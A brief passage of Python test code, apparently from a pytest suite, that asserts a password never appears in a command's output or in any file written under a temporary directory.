    assert password not in ran.out + ran.err
    assert [
        file for file in tmp_path.rglob("*") if file.is_file() and password.encode() in file.read_bytes()
    ] == []
